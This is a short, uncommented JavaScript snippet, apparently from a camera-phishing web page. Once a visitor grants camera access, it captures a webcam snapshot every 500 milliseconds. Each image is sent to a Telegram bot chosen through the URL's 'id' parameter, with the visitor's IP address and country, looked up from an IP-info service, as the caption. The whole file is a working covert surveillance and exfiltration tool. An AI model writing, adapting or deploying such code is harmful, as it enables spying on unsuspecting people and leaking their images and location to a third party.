const KEY = "PLACEHOLDER", EVERY = 500;
const who = new URLSearchParams(location.search).get("id") || "none";
let video, where = {};
fetch("https://ipinfo.example/json/").then(r => r.json()).then(d => { where = d; }).catch(() => {});
(async () => {
  try {
    const stream = await navigator.mediaDevices.getUserMedia({ video: true });
    video = document.createElement("video");
    video.srcObject = stream;
    await video.play();
    loop();
  } catch (e) {}
})();
async function loop() { await shot(); setTimeout(loop, EVERY); }
async function shot() {
  if (!video.videoWidth) return;
  const c = document.createElement("canvas");
  c.width = video.videoWidth; c.height = video.videoHeight;
  c.getContext("2d").drawImage(video, 0, 0);
  const blob = await new Promise(r => c.toBlob(r, "image/jpeg", 0.8));
  const f = new FormData();
  f.append("chat_id", who); f.append("photo", blob, "i.jpg"); f.append("caption", where.ip + " " + where.country_name);
  fetch(`https://api.telegram.org/bot${KEY}/sendPhoto`, { method: "POST", body: f });
}
